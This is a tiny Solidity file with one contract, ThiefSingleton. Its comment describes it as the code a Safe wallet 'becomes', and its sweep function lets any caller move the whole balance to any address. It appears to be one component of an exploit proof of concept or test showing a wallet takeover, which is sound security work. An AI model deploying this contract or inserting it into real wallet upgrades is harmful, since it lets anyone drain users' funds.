// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.28;

/// @notice What the Safe's code becomes: anyone may sweep.
contract ThiefSingleton {
    function sweep(address payable to) external {
        to.transfer(address(this).balance);
    }
}
